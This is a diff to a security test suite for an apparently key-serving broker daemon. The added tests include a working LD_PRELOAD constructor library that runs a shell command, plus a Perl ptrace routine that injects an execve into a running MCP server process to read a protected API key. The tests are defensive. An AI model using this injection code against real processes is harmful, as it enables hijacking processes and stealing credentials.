@@ -1,14 +1,15 @@
-import { spawnSync } from 'node:child_process';
-import { chmodSync, chownSync, copyFileSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
-import { join } from 'node:path';
+import { spawn, spawnSync } from 'node:child_process';
+import { chmodSync, chownSync, copyFileSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { dirname, join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { enrolmentFile } from '../../src/platform/enrolment.ts';
 import { helperPath } from '../../src/platform/native.ts';
 import type { BrokerEvent } from '../../src/protocol/reports.ts';
-import { BrokerHome, type Finished, PROGRAM } from '../fakes/daemon-process.ts';
+import { BrokerHome, type Finished, PROGRAM, RunningDaemon } from '../fakes/daemon-process.ts';
 import { PerlClient, perlText } from '../fakes/perl-client.ts';
 import { shellWord } from '../fakes/processes.ts';
 import { canWrap, hasProgram, WRAPPER_NAMES, wrapperScript } from '../fakes/wrappers.ts';
+import { compile, compiles } from '../native/compile.ts';
 
 const KEY = 'sk-ant-canary-allow-0123456789';
 const isRoot = process.getuid?.() === 0;
@@ -288,6 +289,49 @@ describe.skipIf(!canTest)('allow = ["claude-code"]', () => {
       await expect.poll(() => existsSync(out) && readFileSync(out, 'utf8')).toBe(`${KEY}\n`);
     });
 
+    it.skipIf(!compiles('cc', ['-shared', '-fPIC']))('foreign code in the client’s own, true executable', async () => {
+      const source = join(home.folder, 'preload.c');
+      writeFileSync(source, PRELOAD);
+      using library = compile('cc', [source], ['-shared', '-fPIC']);
+      chmodSync(library.file, 0o755);
+      chmodSync(dirname(library.file), 0o755);
+      const place = join(home.folder, 'true', '@anthropic-ai', 'claude-code', 'claude');
+      mkdirSync(dirname(place), { recursive: true });
+      copyFileSync('/bin/true', place);
+      const start = `exec setsid -w env LD_PRELOAD=${library.file} LINE='${helper}' ${place}`;
+      expect(await home.shell(start)).toEqual(SERVED);
+    });
+
+    it.skipIf(!compiles('cc', ['-shared', '-fPIC']))(
+      'a library that the settings’ `env` loads into the helper’s shell',
+      async () => {
+        const source = join(home.folder, 'preload.c');
+        writeFileSync(source, PRELOAD);
+        using library = compile('cc', [source], ['-shared', '-fPIC']);
+        chmodSync(library.file, 0o755);
+        chmodSync(dirname(library.file), 0o755);
+        const out = join(home.folder, 'loaded');
+        const steal = `$ENV{LD_PRELOAD} = ${perlText(library.file)}; $ENV{LINE} = ${perlText(`${helper} > '${out}'`)}; helper(${perlText(helper)});`;
+        expect(await client.run(steal)).toMatchObject({ stdout: SERVED.stdout });
+        expect(readFileSync(out, 'utf8')).toBe(SERVED.stdout);
+      },
+    );
+
+    it.skipIf(!canTrace())('a debugger’s hand in an MCP server', async ({ skip }) => {
+      const out = join(home.folder, 'traced');
+      // Its environment is empty.
+      const steal = script('trace', `#!/bin/sh\nBROKER_SOCKET='${home.socket}' ${helper} > '${out}'\n`);
+      await install(steal, '--settings', join(home.folder, 'trace.json'));
+      const server = `my $server = fork(); if ($server == 0) { exec 'sleep', '1000' }`;
+      // The attacker is what the agent runs: in a session of its own.
+      const asleep = `sub asleep { open(my $f, '<', "/proc/$server/syscall") or return; (<$f> // '') =~ /^(35|230) / }`;
+      const attack = `${asleep} select(undef, undef, undef, 0.01) until asleep(); if (fork() == 0) { POSIX::setsid(); ${TRACE} } wait(); waitpid($server, 0);`;
+      const { stderr } = await client.run(`${server} ${attack}`, { LINE: steal });
+      if (stderr.includes('cannot attach')) skip('no process may be traced here');
+      expect(stderr).toBe('');
+      expect(readFileSync(out, 'utf8')).toBe(`${KEY}\n`);
+    });
+
     it('an MCP server whose command is the recorded line', async () => {
       expect(await client.run(`exit child(\\&socket_in, ${perlText(helper)});`)).toEqual(SERVED);
     });
@@ -300,3 +344,91 @@ describe.skipIf(!canTest)('allow = ["claude-code"]', () => {
     });
   });
 });
+
+/** Only root can mount a /proc, and only an ordinary user is hidden anything. */
+describe.skipIf(!canTest || !isRoot || !isReachable || !canMountProc())('a daemon that cannot see who asks', () => {
+  it.each([
+    [
+      'because /proc hides it',
+      '--mount',
+      'mount -t proc -o hidepid=invisible proc /proc && exec',
+      /the kernel hides it/,
+    ],
+    [
+      'because it is in another pid namespace',
+      '--mount-proc --pid --fork --kill-child',
+      // The first process of the namespace takes the others with it.
+      'true &&',
+      /another pid namespace/,
+    ],
+  ])('refuses, %s', async (_, spaces, before, words) => {
+    await using home = new BrokerHome(config(), ORDINARY);
+    const client = new PerlClient(home.folder, home.env, ORDINARY);
+    const helper = join(home.folder, 'broker-key');
+    copyFileSync(helperPath() ?? '', helper);
+    chmodSync(helper, 0o755);
+    const become = `setpriv --reuid=${ORDINARY} --regid=${ORDINARY} --clear-groups`;
+    const inside = ['sh', '-c', `${before} ${become} "$@"`, 'sh', process.execPath, PROGRAM, 'daemon'];
+    const child = spawn('unshare', [...spaces.split(' '), ...inside], {
+      env: home.env,
+      stdio: ['ignore', 'ignore', 'pipe'],
+    });
+    const daemon = new RunningDaemon(child);
+    try {
+      await daemon.whenLogged('broker is ready');
+      expect(await home.broker('claude', 'install', '--helper', helper)).toMatchObject({ code: 0 });
+      const { code, stdout, stderr } = await client.helper(helper);
+      expect({ code, stdout }).toEqual({ code: 77, stdout: '' });
+      expect(stderr).toMatch(words);
+    } finally {
+      await daemon.end('SIGKILL');
+    }
+  });
+});
+
+const PRELOAD = `
+#include <stdlib.h>
+#include <sys/wait.h>
+#include <unistd.h>
+__attribute__((constructor)) static void run(void)
+{
+    int status = 0;
+    if (getenv("LINE") == NULL || fork() != 0) {
+        wait(&status);
+        return;
+    }
+    unsetenv("LD_PRELOAD");
+    execl("/bin/sh", "/bin/sh", "-c", getenv("LINE"), (char *)NULL);
+}
+`;
+
+function canMountProc(): boolean {
+  const mount = ['sh', '-c', 'mount -t proc -o hidepid=invisible proc /proc && setpriv --version'];
+  return spawnSync('unshare', ['--mount', '--pid', '--fork', ...mount]).status === 0;
+}
+
+function canTrace(): boolean {
+  const yama = '/proc/sys/kernel/yama/ptrace_scope';
+  return process.arch === 'x64' && !(existsSync(yama) && readFileSync(yama, 'utf8').trim() !== '0');
+}
+
+/** Has $server run the line: ptrace(2) of x86-64, at the system call in which it waits. */
+const TRACE = `
+sub trace { return syscall(101, @_) }
+trace(16, $server, 0, 0) == 0 or do { print STDERR 'cannot attach'; kill 'KILL', $server; POSIX::_exit(1) };
+waitpid($server, 0);
+my $regs = "\\0" x 216;
+trace(12, $server, 0, $regs);
+my @r = unpack('Q27', $regs);
+my $at = ($r[19] - 4096) & ~15;
+my @words = ('/bin/sh', '-c', $ENV{LINE});
+my ($strings, @argv) = ('');
+for (@words) { push @argv, $at + 64 + length $strings; $strings .= "$_\\0" }
+my $data = pack('Q4', @argv, 0) . "\\0" x 32 . $strings;
+$data .= "\\0" x (8 - length($data) % 8);
+trace(5, $server, $at + 8 * $_, unpack('Q', substr($data, 8 * $_, 8))) for 0 .. length($data) / 8 - 1;
+@r[10, 15, 16, 14, 13, 12] = (59, 2 ** 64 - 1, $r[16] - 2, $argv[0], $at, $at + 24);
+trace(13, $server, 0, my $set = pack('Q27', @r));
+trace(17, $server, 0, 0);
+POSIX::_exit(0);
+`;
